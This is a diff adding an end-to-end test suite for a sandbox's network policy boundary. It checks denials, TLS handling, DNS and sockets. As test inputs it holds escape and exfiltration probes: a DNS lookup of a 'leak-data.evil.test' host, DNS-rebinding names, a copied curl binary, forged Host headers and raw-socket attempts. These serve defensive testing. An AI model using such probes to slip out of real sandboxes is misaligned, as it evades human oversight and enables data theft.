@@ -1,0 +1,217 @@
+"""The network: real programs, no proxy variable, the policy's word is final."""
+import json
+import os
+import shutil
+import subprocess
+
+import world
+from machine import Skip, check, need
+
+RAW_CLIENT = world.WORK + '/raw_client'
+
+
+def curl_allowed(m):
+    """curl reaches an allowed path over http and https with no option given."""
+    for scheme in ('http', 'https'):
+        done = m.inside('curl', '-sS', scheme + '://site.test/ok/a')
+        check(done.out == 'hello from site.test/ok/a', done)
+
+
+def denied_path_is_403(m):
+    """A denied request gets a 403 with JSON that says which rule is missing; nothing reaches the upstream."""
+    for scheme in ('http', 'https'):
+        done = m.inside('curl', '-sS', '-w', '\n%{http_code}', '-X', 'DELETE', scheme + '://site.test/ok/a')
+        body, _, code = done.out.rpartition('\n')
+        check(code == '403', done)
+        told = json.loads(body)
+        check(told['error'] == 'policy_denied' and told['method'] == 'DELETE' and told['path'] == '/ok/a'
+              and told['host'] == 'site.test' and told['binary'].endswith('/curl') and 'rule_missing' in told, told)
+    check(not m.hits(kind='request', method='DELETE'), 'the upstream saw the request')
+
+
+def denied_host_is_403_and_not_looked_up(m):
+    """A host that no rule names: refused fast, no DNS query leaves, no connection leaves."""
+    for scheme in ('http', 'https'):
+        done = m.inside('curl', '-sS', '-m', '10', '-w', '%{http_code}', scheme + '://denied.test/')
+        check(done.code != 0 or '403' in done.out, done)
+    check(not m.hits(kind='dns', name='denied.test') and not m.hits(kind='sni', name='denied.test'), 'something left')
+
+
+def denied_host_when_asking(m):
+    """Where the profile asks and nobody answers, the 403 says so at HTTP level."""
+    done = m.run(['/opt/osh/bin/osh', 'run', '-q', '--profile', 'strict', '--policy', m.policy, '--approval-timeout', '1s',
+                  '--', 'curl', '-sS', '-w', '\n%{http_code}', 'https://denied.test/x'])
+    body, _, code = done.out.rpartition('\n')
+    check(code == '403' and json.loads(body)['host'] == 'denied.test', done)
+    check(not m.hits(kind='dns', name='denied.test'), 'looked up')
+
+
+def spliced_host(m):
+    """An L4 rule carries TLS end to end: the certificate seen is the upstream's own."""
+    done = m.inside('curl', '-sSv', 'https://other.test/any')
+    check('hello from other.test/any' in done.out and 'osh e2e root' in done.err, done)
+
+
+def terminated_host(m):
+    """An L7 rule terminates TLS: the certificate seen is the session's."""
+    done = m.inside('curl', '-sSv', 'https://site.test/ok/x')
+    check('hello from site.test/ok/x' in done.out and 'osh e2e root' not in done.err, done)
+
+
+def refused_connect_is_truthful(m):
+    """connect() inside fails with the upstream's truth."""
+    done = m.inside('curl', '-sS', '-m', '10', 'https://closed.test/')
+    check(done.code == 7, done)
+
+
+def bad_upstream_certificate(m):
+    """An upstream that cannot be verified is a 502 with the reason, never a silent accept."""
+    done = m.inside('curl', '-sS', '-w', '\n%{http_code}', 'https://badcert.test/')
+    check(done.out.endswith('502') and 'certificate' in done.out, done)
+    check(not m.hits(kind='request', host='badcert.test'), 'a request was sent')
+
+
+def literal_address_is_refused(m):
+    """An address that no rule names is refused at once."""
+    done = m.inside('curl', '-sS', '-m', '10', 'http://%s/' % world.SITES)
+    check(done.code != 0 or '403' in done.out or 'policy_denied' in done.out, done)
+    check(not m.hits(kind='request'), 'the upstream saw it')
+
+
+def rebinding_is_refused(m):
+    """A wildcard name that points inwards is not dialled."""
+    for name in ('rebind.wild.test', 'meta.wild.test', 'loop.wild.test'):
+        done = m.inside('curl', '-sS', '-m', '10', 'http://%s/' % name)
+        check(done.code != 0 or 'denied' in done.out, done)
+    check(not m.hits(kind='request'), 'dialled')
+    check(m.inside('curl', '-sS', 'http://fine.wild.test/').out == 'hello from fine.wild.test/', 'a public one works')
+
+
+def binary_identity(m):
+    """A rule for /usr/bin/curl does not admit another program, nor a copy of curl."""
+    check('hello' in m.inside('curl', '-sS', 'http://only-curl.test/').out, 'curl itself')
+    done = m.shell('cp /usr/bin/curl ./curl && ./curl -sS -m 10 http://only-curl.test/; '
+                   'python3 -c "import urllib.request as u; print(u.urlopen(\'http://only-curl.test/\', timeout=10).read())"')
+    check('hello' not in done.out, done)
+
+
+def host_header_mismatch(m):
+    """A Host field that names another host is refused."""
+    done = m.inside('curl', '-sS', '-w', '\n%{http_code}', '-H', 'Host: other.test', 'https://site.test/ok/a')
+    check(done.out.endswith('421') or done.out.endswith('403') or done.out.endswith('400'), done)
+    check(not m.hits(kind='request'), 'forwarded')
+
+
+def ipv6_upstream(m):
+    """A name with an IPv6 address only on the way works, and IPv6 sockets inside work."""
+    done = m.inside('curl', '-6', '-sS', 'https://other.test/six')
+    check('hello' in done.out, done)
+
+
+def bulk_both_ways(m):
+    """50 MB down through inspection, 20 MB up through a splice, unharmed."""
+    done = m.inside('sh', '-c', 'curl -sS https://site.test/bytes/50000000 | sha256sum; '
+                    'head -c 20000000 /dev/zero | curl -sS --data-binary @- https://other.test/up')
+    import hashlib
+    check(hashlib.sha256(b'x' * 50000000).hexdigest() in done.out and 'hello' in done.out, done)
+
+
+def post_with_body(m):
+    """A POST body arrives, chunked or sized."""
+    for option in ('-H', 'Transfer-Encoding: chunked'), ('-H', 'X-Plain: 1'):
+        done = m.inside('curl', '-sS', *option, '--data-binary', 'payload=1', 'https://site.test/echo')
+        check(json.loads(done.out)['body'] == 'payload=1', done)
+
+
+def keep_alive(m):
+    """Several requests on one connection are each judged."""
+    done = m.inside('curl', '-sS', 'https://site.test/ok/1', 'https://site.test/secret', 'https://site.test/ok/2')
+    check(done.out.startswith('hello from site.test/ok/1') and 'policy_denied' in done.out, done)
+    check(not m.hits(kind='request', path='/secret'), 'forwarded')
+
+
+def close_delimited_answer(m):
+    """An answer that ends with the connection arrives whole."""
+    check(m.inside('curl', '-sS', 'https://site.test/close').out == 'until the end', 'body')
+
+
+def dns_says_only_what_it_must(m):
+    """A and AAAA for known names; other types and unknown names tell nothing and ask nobody."""
+    done = m.shell('getent ahosts site.test; getent ahosts leak-data.evil.test; getent ahosts 127.0.0.1.nip.test; true')
+    check(done.out.strip(), done)
+    check(not m.hits(kind='dns'), 'a question left')
+
+
+def udp_is_refused_at_once(m):
+    """UDP is refused with ICMP, so that QUIC falls back at once."""
+    done = m.shell('python3 -c "\nimport socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n'
+                   's.connect((\'%s\',443))\ns.send(b\'x\')\ns.settimeout(5)\nt=time.time()\n'
+                   'try:\n s.recv(1)\nexcept OSError as e: print(type(e).__name__, time.time()-t<1)"' % world.SITES)
+    check('ConnectionRefusedError True' in done.out or 'PermissionError True' in done.out, done)
+
+
+def no_other_way_out(m):
+    """The only interface is the TUN; raw and packet sockets are refused."""
+    done = m.shell('ls /sys/class/net 2>/dev/null; cat /proc/net/dev | tail -n +3 | cut -d: -f1; '
+                   'python3 -c "\nimport socket\nfor a in ((17,3,0),(2,3,1),(16,3,9)):\n'
+                   ' try:\n  socket.socket(*a); print(\'OPEN\',a)\n except OSError: pass"')
+    check('OPEN' not in done.out and 'veth' not in done.out, done)
+
+
+def git_clone(m):
+    """git clone over https works; a push is refused with a message."""
+    need('git')
+    done = m.shell('git clone -q https://git.test/repo.git got && cat got/README')
+    check(done.out == 'cloned over https\n', done)
+    done = m.shell('cd got && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git push 2>&1')
+    check(done.code != 0, done)
+    check(not m.hits(kind='request', method='POST', path='/repo.git/git-receive-pack'), 'pushed')
+
+
+def node_fetch(m):
+    """node's fetch and https.get."""
+    need('node')
+    done = m.inside('node', '-e', 'fetch("https://site.test/ok/n").then(r=>r.text()).then(t=>{console.log(t);'
+                    'require("https").get("https://site.test/ok/h",r=>r.on("data",d=>console.log(String(d))))})')
+    check(done.out == 'hello from site.test/ok/n\nhello from site.test/ok/h\n', done)
+
+
+def python_urllib(m):
+    """python's urllib."""
+    done = m.inside('python3', '-c', 'import urllib.request as u; print(u.urlopen("https://site.test/ok/p").read().decode())')
+    check(done.out == 'hello from site.test/ok/p\n', done)
+
+
+def npm_install(m):
+    """npm install from a local registry server."""
+    need('npm')
+    m.write(m.project + '/package.json', '{"name":"p","version":"1.0.0"}')
+    done = m.shell('npm install --registry https://npm.test --no-audit --no-fund tiny 2>&1 && node -e "console.log(require(\'tiny\')())"',
+                   timeout=120)
+    check('answer from the package' in done.out, done)
+
+
+def static_binary(m):
+    """A static binary that ignores every proxy variable is subject to the same word."""
+    if not os.path.exists(RAW_CLIENT):
+        source = os.path.dirname(os.path.abspath(__file__)) + '/raw_client.c'
+        if shutil.which('gcc') is None:
+            raise Skip('no gcc')
+        subprocess.run(['gcc', '-static', '-O1', '-o', RAW_CLIENT, source], check=True)
+    shutil.copy(RAW_CLIENT, m.project + '/raw')
+    done = m.inside('./raw', 'site.test', '/ok/raw', env={'HTTPS_PROXY': 'http://127.0.0.1:9', 'http_proxy': 'http://127.0.0.1:9'})
+    check('hello from site.test/ok/raw' in done.out, done)
+    check('403' in m.inside('./raw', 'site.test', '/no').out, 'denied')
+
+
+def offline(m):
+    """--offline: no network at all, and still a working boundary."""
+    done = m.inside('sh', '-c', 'curl -sS -m 5 https://site.test/ok/a; echo code $?', options=('--offline',))
+    check('hello' not in done.out and 'code 0' not in done.out and not m.hits(kind='dns'), done)
+
+
+CASES = [curl_allowed, denied_path_is_403, denied_host_is_403_and_not_looked_up, denied_host_when_asking, spliced_host,
+         terminated_host, refused_connect_is_truthful, bad_upstream_certificate, literal_address_is_refused,
+         rebinding_is_refused, binary_identity, host_header_mismatch, ipv6_upstream, bulk_both_ways, post_with_body,
+         keep_alive, close_delimited_answer, dns_says_only_what_it_must, udp_is_refused_at_once, no_other_way_out, git_clone,
+         node_fetch, python_urllib, npm_install, static_binary, offline]
